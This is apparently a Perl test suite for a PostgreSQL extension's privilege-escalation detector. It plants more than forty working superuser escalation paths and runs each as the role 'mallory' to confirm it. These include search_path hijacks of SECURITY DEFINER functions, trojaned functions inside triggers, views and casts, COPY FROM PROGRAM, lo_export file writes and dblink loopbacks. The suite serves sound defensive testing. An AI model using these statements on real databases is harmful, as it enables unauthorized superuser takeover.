# Ways to superuser: each is planted, found, walked by running its statements as the attacker (and
# what the superuser does every day), and gone with what made it possible. Ordinary grants are no way.
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;

my $node = PostgreSQL::Test::Cluster->new('escalation');
$node->init(allows_streaming => 'logical');
$node->append_conf('postgresql.conf', "shared_preload_libraries = 'pg_portfolio'\nfsync = off\nmax_locks_per_transaction = 256\n");
$node->start;
my $data = $node->data_dir;
my $port = $node->port;
my $host = $node->host;
my $boss = $node->safe_psql('postgres', 'SELECT current_user');
$node->safe_psql('postgres', q{CREATE DATABASE d});
$node->safe_psql('d', q{SET client_min_messages = warning; CREATE SCHEMA ext; CREATE EXTENSION btree_gist SCHEMA ext; CREATE EXTENSION pg_portfolio});

my $evil = 'BEGIN EXECUTE $x$ALTER ROLE mallory SUPERUSER$x$; RETURN %s; EXCEPTION WHEN insufficient_privilege THEN RETURN %s; END';
sub evil
{
	my ($name, $arguments, $returns, $value, $more) = @_;
	return "CREATE OR REPLACE FUNCTION $name($arguments) RETURNS $returns LANGUAGE plpgsql " . ($more // '') . " AS \$f\$ " . sprintf($evil, $value, $value) . " \$f\$";
}
sub good
{
	my ($name, $arguments, $returns, $value, $more) = @_;
	return "CREATE FUNCTION $name($arguments) RETURNS $returns LANGUAGE plpgsql " . ($more // '') . " AS \$f\$ BEGIN RETURN $value; END \$f\$; ALTER FUNCTION $name OWNER TO mallory";
}
my $definer = q{CREATE SCHEMA app; CREATE TABLE app.log (x int); CREATE FUNCTION app.note() RETURNS void LANGUAGE plpgsql SECURITY DEFINER %s AS $f$ BEGIN INSERT INTO log VALUES (1); END $f$; GRANT USAGE ON SCHEMA app TO PUBLIC; };
my $shadow = 'CREATE TEMP TABLE log (x int); ' . evil('pg_temp.t', '', 'trigger', 'NULL') . '; CREATE TRIGGER t BEFORE INSERT ON pg_temp.log FOR EACH ROW EXECUTE FUNCTION pg_temp.t(); SELECT app.note()';
my $loop = "CREATE EXTENSION postgres_fdw; CREATE SERVER self FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '$host', port '$port', dbname 'postgres'); GRANT USAGE ON FOREIGN SERVER self TO mallory; CREATE TABLE public.up (x int); CREATE FUNCTION public.grow() RETURNS trigger LANGUAGE plpgsql AS \$f\$ BEGIN ALTER ROLE mallory SUPERUSER; RETURN NULL; END \$f\$; ";
my $mine = 'CREATE SCHEMA mine AUTHORIZATION mallory; GRANT USAGE ON SCHEMA mine TO PUBLIC; ';
# What shows that he has come to the server's account: a file that only it can have written
my $wrote = "SELECT count(*) = 1 FROM pg_ls_dir('$data') f WHERE f = 'mallory_was_here'";
my $is_super = q{SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'};

# name => [technique, what makes it possible (as superuser), what mallory does, what the superuser then does, what shows it]
my @ways = (
	[ 'a group that is superuser', 'member', 'CREATE ROLE chief SUPERUSER; GRANT chief TO mallory', 'SET ROLE chief; ALTER ROLE mallory SUPERUSER' ],
	[ 'groups of groups', 'member', 'CREATE ROLE chief SUPERUSER; CREATE ROLE middle; GRANT chief TO middle; GRANT middle TO mallory', 'SET ROLE chief; ALTER ROLE mallory SUPERUSER' ],
	[ 'without INHERIT', 'member', 'CREATE ROLE chief SUPERUSER; ALTER ROLE mallory NOINHERIT; GRANT chief TO mallory', 'SET ROLE chief; ALTER ROLE mallory SUPERUSER' ],
	[ 'ADMIN OPTION', 'member', 'CREATE ROLE chief SUPERUSER; GRANT chief TO mallory WITH ADMIN OPTION', 'SET ROLE chief; ALTER ROLE mallory SUPERUSER' ],
	[ 'a programme on the server', 'server program', 'GRANT pg_execute_server_program TO mallory', "CREATE TEMP TABLE o (x text); COPY o FROM PROGRAM 'touch mallory_was_here'", undef, $wrote ],
	[ 'a file on the server', 'server file', 'GRANT pg_write_server_files TO mallory', "COPY (SELECT 1) TO '$data/mallory_was_here'", undef, $wrote ],
	[ 'lo_export()', 'server function', 'GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO mallory', "SELECT lo_from_bytea(77777, 'x'); SELECT lo_export(77777, '$data/mallory_was_here'); SELECT lo_unlink(77777)", undef, $wrote ],
	[ 'lo_export() for PUBLIC', 'server function', 'GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO PUBLIC', "SELECT lo_from_bytea(77777, 'x'); SELECT lo_export(77777, '$data/mallory_was_here'); SELECT lo_unlink(77777)", undef, $wrote ],
	[ 'a user mapping', 'user mapping', $loop . "CREATE USER MAPPING FOR mallory SERVER self OPTIONS (user '$boss', password_required 'false'); CREATE FOREIGN TABLE public.far (x int) SERVER self OPTIONS (table_name 'up_from_here'); GRANT INSERT ON public.far TO mallory",
		'INSERT INTO public.far VALUES (1)', undef, undef, 'CREATE TABLE public.up_from_here (x int); CREATE FUNCTION public.grow() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN ALTER ROLE mallory SUPERUSER; RETURN NULL; END $f$; CREATE TRIGGER t AFTER INSERT ON public.up_from_here FOR EACH ROW EXECUTE FUNCTION public.grow()' ],
	[ 'a definer without a path', 'definer without path', sprintf($definer, ''), "SET search_path = pg_temp, app; $shadow" ],
	[ 'a definer without a path, for him alone', 'definer without path', sprintf($definer, '') . 'REVOKE EXECUTE ON FUNCTION app.note() FROM PUBLIC; GRANT EXECUTE ON FUNCTION app.note() TO mallory', "SET search_path = pg_temp, app; $shadow" ],
	[ 'a definer without pg_temp', 'definer path without pg_temp', sprintf($definer, 'SET search_path = app'), $shadow ],
	[ 'a definer that trusts pg_catalog alone', 'definer path without pg_temp', q{CREATE SCHEMA app; GRANT USAGE ON SCHEMA app TO PUBLIC; CREATE FUNCTION app.count() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog AS 'SELECT count(*) FROM pg_class'},
		evil('pg_temp.e', '', 'int', '1') . '; CREATE TEMP VIEW pg_class AS SELECT pg_temp.e() AS x WHERE pg_temp.e() = 1; SELECT app.count()' ],
	[ 'a writable schema on the path of a definer', 'definer path writable', q{CREATE SCHEMA app; CREATE SCHEMA lib; CREATE FUNCTION lib.greet() RETURNS int LANGUAGE sql AS 'SELECT 1'; GRANT USAGE, CREATE ON SCHEMA app TO mallory;
		CREATE FUNCTION app.go() RETURNS int LANGUAGE plpgsql SECURITY DEFINER SET search_path = app, lib, pg_temp AS 'BEGIN RETURN greet(); END'}, evil('app.greet', '', 'int', '1') . '; SELECT app.go()' ],
	[ 'his own schema on the path of a definer', 'definer path writable', $mine . q{CREATE SCHEMA lib; CREATE FUNCTION lib.greet() RETURNS int LANGUAGE sql AS 'SELECT 1'; CREATE SCHEMA app; GRANT USAGE ON SCHEMA app TO PUBLIC;
		CREATE FUNCTION app.go() RETURNS int LANGUAGE plpgsql SECURITY DEFINER SET search_path = "mine", lib, pg_temp AS 'BEGIN RETURN greet(); END'}, evil('mine.greet', '', 'int', '1') . '; SELECT app.go()' ],
	[ 'his function in a trigger', 'calls replaceable function', $mine . 'CREATE TABLE public.t (x int); ' . good('mine.f', '', 'trigger', 'NEW') . '; CREATE TRIGGER t BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION mine.f()', evil('mine.f', '', 'trigger', 'NEW'), 'INSERT INTO public.t VALUES (1)' ],
	[ 'his function in an event trigger', 'calls replaceable function', $mine . 'CREATE FUNCTION mine.f() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN NULL; END $f$; CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION mine.f(); ALTER FUNCTION mine.f() OWNER TO mallory',
		'CREATE OR REPLACE FUNCTION mine.f() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN UPDATE pg_authid SET rolsuper = true WHERE rolname = $x$mallory$x$; END IF; END $f$', 'CREATE TABLE public.anything (x int)' ],
	[ 'his function as a default', 'calls replaceable function', $mine . good('mine.f', '', 'int', '1') . '; CREATE TABLE public.t (x int DEFAULT mine.f())', evil('mine.f', '', 'int', '1'), 'INSERT INTO public.t DEFAULT VALUES' ],
	[ 'his function in a CHECK', 'calls replaceable function', $mine . good('mine.f', 'int', 'boolean', 'true') . '; CREATE TABLE public.t (x int CHECK (mine.f(x)))', evil('mine.f', 'int', 'boolean', 'true'), 'INSERT INTO public.t VALUES (1)' ],
	[ 'his function in a CHECK of a domain', 'calls replaceable function', $mine . good('mine.f', 'int', 'boolean', 'true') . '; CREATE DOMAIN public.d AS int CHECK (mine.f(VALUE))', evil('mine.f', 'int', 'boolean', 'true'), 'SELECT 1::public.d' ],
	[ 'his function in an index', 'calls replaceable function', $mine . good('mine.f', 'int', 'int', '1', 'IMMUTABLE') . '; CREATE TABLE public.t (x int); CREATE INDEX ON public.t (mine.f(x))', evil('mine.f', 'int', 'int', '1'), 'INSERT INTO public.t VALUES (1)' ],
	[ 'his function in a generated column', 'calls replaceable function', $mine . good('mine.f', 'int', 'int', '1', 'IMMUTABLE') . '; CREATE TABLE public.t (x int, y int GENERATED ALWAYS AS (mine.f(x)) STORED)', evil('mine.f', 'int', 'int', '1'), 'INSERT INTO public.t VALUES (1)' ],
	[ 'his function in a view', 'calls replaceable function', $mine . good('mine.f', '', 'int', '1') . '; CREATE VIEW public.v AS SELECT mine.f()', evil('mine.f', '', 'int', '1'), 'SELECT * FROM public.v' ],
	[ 'his function in a materialized view', 'calls replaceable function', $mine . good('mine.f', '', 'int', '1') . '; CREATE MATERIALIZED VIEW public.v AS SELECT mine.f()', evil('mine.f', '', 'int', '1'), 'REFRESH MATERIALIZED VIEW public.v' ],
	[ 'his function in a rule', 'calls replaceable function', $mine . good('mine.f', '', 'int', '1') . '; CREATE TABLE public.t (x int); CREATE RULE r AS ON INSERT TO public.t DO ALSO SELECT mine.f()', evil('mine.f', '', 'int', '1'), 'INSERT INTO public.t VALUES (1)' ],
	[ 'his function behind an operator', 'calls replaceable function', $mine . good('mine.f', 'int, int', 'boolean', 'true') . '; CREATE OPERATOR public.=== (FUNCTION = mine.f, LEFTARG = int, RIGHTARG = int)', evil('mine.f', 'int, int', 'boolean', 'true'), 'SELECT 1 OPERATOR(public.===) 1' ],
	[ 'his function behind a cast', 'calls replaceable function', $mine . 'CREATE TYPE public.pair AS (a int); ' . good('mine.f', 'public.pair', 'int', '1') . '; CREATE CAST (public.pair AS int) WITH FUNCTION mine.f(public.pair)', evil('mine.f', 'public.pair', 'int', '1'), 'SELECT ROW(1)::public.pair::int' ],
	[ 'his function in an aggregate', 'calls replaceable function', $mine . good('mine.f', 'int, int', 'int', '1') . '; CREATE AGGREGATE public.a (int) (SFUNC = mine.f, STYPE = int)', evil('mine.f', 'int, int', 'int', '1'), 'SELECT public.a(x) FROM generate_series(1, 2) x' ],
	[ 'his function in the body of another', 'calls replaceable function', $mine . good('mine.f', '', 'int', '1') . '; CREATE FUNCTION public.g() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT mine.f(); END', evil('mine.f', '', 'int', '1'), 'SELECT public.g()' ],
	[ 'his function as a default argument', 'calls replaceable function', $mine . good('mine.f', '', 'int', '1') . q{; CREATE FUNCTION public.g(x int DEFAULT mine.f()) RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN x; END'}, evil('mine.f', '', 'int', '1'), 'SELECT public.g()' ],
	[ 'his function in statistics', 'calls replaceable function', $mine . good('mine.f', 'int', 'int', '1', 'IMMUTABLE') . '; CREATE TABLE public.t AS SELECT 1 AS x FROM generate_series(1, 100); CREATE STATISTICS public.s ON (mine.f(x)) FROM public.t', evil('mine.f', 'int', 'int', '1'), 'ANALYZE public.t' ],
	[ 'a function of his group', 'calls replaceable function', 'CREATE ROLE crew; GRANT crew TO mallory; CREATE TABLE public.t (x int); ' . $mine . (good('mine.f', '', 'trigger', 'NEW') =~ s/OWNER TO mallory/OWNER TO crew/r) . '; GRANT CREATE ON SCHEMA mine TO crew; CREATE TRIGGER t BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION mine.f()', evil('mine.f', '', 'trigger', 'NEW'), 'INSERT INTO public.t VALUES (1)' ],
	[ 'TRIGGER on a table', 'trigger privilege', $mine . 'CREATE TABLE public.t (x int); GRANT TRIGGER ON public.t TO mallory', evil('mine.f', '', 'trigger', 'NEW') . '; CREATE TRIGGER t BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION mine.f()', 'INSERT INTO public.t VALUES (1)' ],
	[ 'TRIGGER for PUBLIC', 'trigger privilege', $mine . 'CREATE TABLE public.t (x int); GRANT TRIGGER ON public.t TO PUBLIC', evil('mine.f', '', 'trigger', 'NEW') . '; CREATE TRIGGER t BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION mine.f()', 'INSERT INTO public.t VALUES (1)' ],
	[ 'his partition', 'partition of another', $mine . 'CREATE TABLE public.t (x int) PARTITION BY LIST (x); CREATE TABLE mine.p PARTITION OF public.t DEFAULT; ALTER TABLE mine.p OWNER TO mallory', evil('mine.f', '', 'trigger', 'NEW') . '; CREATE TRIGGER t BEFORE INSERT ON mine.p FOR EACH ROW EXECUTE FUNCTION mine.f()', 'INSERT INTO public.t VALUES (1)' ],
	[ 'his child table', 'child of another', $mine . 'CREATE TABLE public.t (x int); CREATE TABLE mine.p () INHERITS (public.t); INSERT INTO mine.p VALUES (1); ALTER TABLE mine.p OWNER TO mallory', evil('mine.f', '', 'trigger', 'NEW') . '; CREATE TRIGGER t BEFORE UPDATE ON mine.p FOR EACH ROW EXECUTE FUNCTION mine.f()', 'UPDATE public.t SET x = 2' ],
	[ 'his domain', 'domain of another', $mine . 'CREATE DOMAIN mine.d AS int; ALTER DOMAIN mine.d OWNER TO mallory; CREATE TABLE public.t (x mine.d)', evil('mine.f', 'int', 'boolean', 'true') . '; ALTER DOMAIN mine.d ADD CHECK (mine.f(VALUE))', 'INSERT INTO public.t VALUES (1)' ],
	[ 'his view', 'view of another', $mine . 'CREATE VIEW mine.v AS SELECT 1 AS x; ALTER VIEW mine.v OWNER TO mallory; CREATE VIEW public.w AS SELECT * FROM mine.v', evil('mine.f', '', 'int', '1') . '; CREATE OR REPLACE VIEW mine.v AS SELECT mine.f() AS x', 'SELECT * FROM public.w' ],
	[ 'his view below a materialized view', 'view of another', $mine . 'CREATE VIEW mine.v AS SELECT 1 AS x; ALTER VIEW mine.v OWNER TO mallory; CREATE MATERIALIZED VIEW public.w AS SELECT * FROM mine.v', evil('mine.f', '', 'int', '1') . '; CREATE OR REPLACE VIEW mine.v AS SELECT mine.f() AS x', 'REFRESH MATERIALIZED VIEW public.w' ],
	[ 'the path of a superuser', 'path of sessions', $mine . "ALTER ROLE $boss SET search_path = mine, public", evil('mine.report', '', 'int', '1'), 'SELECT report()' ],
	[ 'the path of a database', 'path of sessions', $mine . q{DO 'BEGIN EXECUTE format($$ALTER DATABASE %I SET search_path = public, mine$$, current_database()); END'}, evil('mine.report', '', 'int', '1'), 'SELECT report()' ],
	[ 'CREATE on public', 'path of sessions', 'GRANT CREATE ON SCHEMA public TO mallory', evil('public.report', '', 'int', '1'), 'SELECT report()' ],
	[ 'CREATE on public for PUBLIC', 'path of sessions', 'GRANT CREATE ON SCHEMA public TO PUBLIC', evil('public.report', '', 'int', '1'), 'SELECT report()' ],
	[ 'three steps', 'calls replaceable function', $mine . 'CREATE ROLE chief SUPERUSER; CREATE ROLE alice; GRANT chief TO alice; CREATE TABLE public.t (x int); ALTER TABLE public.t OWNER TO alice; GRANT CREATE ON SCHEMA public TO chief; ' . good('mine.f', '', 'trigger', 'NEW') . '; CREATE TRIGGER t BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION mine.f()',
		'CREATE OR REPLACE FUNCTION mine.f() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN SET LOCAL ROLE chief; ALTER ROLE mallory SUPERUSER; RETURN NEW; END $f$', 'SET ROLE alice; INSERT INTO public.t VALUES (1)' ],
	(map { [ "ALTER SYSTEM SET $_", 'parameter', "GRANT ALTER SYSTEM ON PARAMETER $_ TO mallory", "ALTER SYSTEM SET $_ = '/tmp/mallory'", undef, "SELECT count(*) = 1 FROM pg_file_settings WHERE name = '$_' AND setting = '/tmp/mallory'", undef, "ALTER SYSTEM RESET $_" ] }
		qw(archive_command restore_command archive_cleanup_command recovery_end_command ssl_passphrase_command dynamic_library_path krb_server_keyfile hba_file ident_file jit_provider)),
);
push @ways, [ 'CREATEROLE', 'createrole', 'ALTER ROLE mallory CREATEROLE', "GRANT pg_execute_server_program TO mallory; CREATE TEMP TABLE o (x text); COPY o FROM PROGRAM 'touch mallory_was_here'", undef, $wrote ]
  if $node->safe_psql('postgres', 'SHOW server_version_num') < 160000;
push @ways, [ 'dblink_connect_u()', 'server function', 'CREATE EXTENSION dblink; GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO mallory', "SELECT dblink_connect_u('host=$host port=$port dbname=postgres user=$boss'); SELECT dblink_exec('ALTER ROLE mallory SUPERUSER')" ]
  if $node->safe_psql('postgres', q{SELECT count(*) FROM pg_available_extensions WHERE name = 'dblink'});

my $paths = q{SELECT role, array_to_string(techniques, ',') FROM portfolio.escalation_paths() WHERE role IN ('mallory', 'public')};
my $walked = 0;
for my $way (@ways)
{
	my ($name, $technique, $makes, $attack, $daily, $shown, $elsewhere, $after) = @$way;
	$node->safe_psql('postgres', 'CREATE ROLE mallory LOGIN');
	my $roles = q{SELECT string_agg(quote_ident(rolname), ',') FROM pg_roles WHERE rolname IN ('mallory', 'chief', 'middle', 'crew', 'alice')};
	is($node->safe_psql('d', $paths), '', "$name: no way yet") if $walked++ == 0;
	$node->safe_psql('d', $makes);
	$node->safe_psql('postgres', $elsewhere) if $elsewhere;
	like($node->safe_psql('d', $paths), qr/^(mallory|public)\|(?:.*,)?\Q$technique\E(,|$)/m, "$name: found") or diag($node->safe_psql('d', 'SELECT * FROM portfolio.escalation_paths()'));
	my ($rc, $out, $err) = $node->psql('d', $attack, extra_params => [ '-U', 'mallory' ]);
	$node->psql('d', $daily) if $daily;
	is($node->safe_psql('d', $shown // $is_super), 't', "$name: walked") or diag($err);
	unlink "$data/mallory_was_here";
	$node->safe_psql('postgres', $after) if $after;
	$node->safe_psql('postgres', 'DROP TABLE IF EXISTS public.up_from_here; DROP FUNCTION IF EXISTS public.grow()') if $elsewhere;
	# all of it is taken away, and the database is as it was
	$node->safe_psql('postgres', "ALTER ROLE $boss RESET ALL; ALTER DATABASE d RESET ALL");
	my $all = $node->safe_psql('postgres', $roles);
	$node->safe_psql('d', "SET client_min_messages = error; DROP EVENT TRIGGER IF EXISTS e; REVOKE ALL ON FUNCTION lo_export(oid, text) FROM PUBLIC; DROP SCHEMA IF EXISTS mine, app, lib CASCADE;
		DROP SCHEMA public CASCADE; CREATE SCHEMA public AUTHORIZATION pg_database_owner; GRANT USAGE ON SCHEMA public TO PUBLIC; DROP OWNED BY $all; DROP ROLE $all");
}
$node->safe_psql('postgres', 'CREATE ROLE mallory LOGIN');
is($node->safe_psql('d', $paths), '', 'without any of them there is no way');
$node->safe_psql('postgres', 'DROP ROLE mallory');
cmp_ok($walked, '>=', 40, "$walked ways were planted, found and walked");

# Ordinary grants, on an ordinary schema with definers that are pinned: no way, for nobody
$node->safe_psql('postgres', q{CREATE ROLE mallory LOGIN; CREATE ROLE owner; CREATE ROLE reader; CREATE ROLE writer; GRANT reader TO writer; GRANT writer TO mallory});
$node->safe_psql('d', q{
CREATE SCHEMA app AUTHORIZATION owner; GRANT USAGE ON SCHEMA app TO reader;
SET ROLE owner;
CREATE TABLE app.item (id int PRIMARY KEY, name text CHECK (length(name) > 0), at timestamptz DEFAULT now());
CREATE INDEX ON app.item (lower(name));
GRANT SELECT, REFERENCES ON app.item TO reader; GRANT INSERT, UPDATE, DELETE ON app.item TO writer;
CREATE FUNCTION app.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN NEW.at := now(); RETURN NEW; END';
CREATE TRIGGER stamp BEFORE INSERT ON app.item FOR EACH ROW EXECUTE FUNCTION app.stamp();
CREATE VIEW app.names AS SELECT name FROM app.item; GRANT SELECT ON app.names TO reader;
CREATE FUNCTION app.add(text) RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = app, pg_temp AS 'INSERT INTO item VALUES (1, $1) RETURNING id';
REVOKE ALL ON FUNCTION app.add(text) FROM PUBLIC; GRANT EXECUTE ON FUNCTION app.add(text) TO writer;
CREATE DOMAIN app.positive AS int CHECK (VALUE > 0);
RESET ROLE;
CREATE FUNCTION app.admin_count() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT count(*) FROM pg_roles';
GRANT pg_monitor, pg_read_all_data TO mallory;
SELECT portfolio.grant_profile('mallory', 'operator'), portfolio.grant_profile('mallory', 'editor')});
is($node->safe_psql('d', 'SELECT * FROM portfolio.escalation_paths()'), '', 'ordinary grants are no way to superuser');
like(($node->psql('d', q{SELECT * FROM portfolio.escalation_paths('{"role": "mallory"}')}))[2], qr/ERROR:  option "role" is not known/, 'unknown options are refused, with rows or without');
is($node->safe_psql('d', 'SET ROLE mallory; SELECT * FROM portfolio.escalation_paths()'), '', 'and whoever is an operator may ask');
$node->stop;
done_testing();
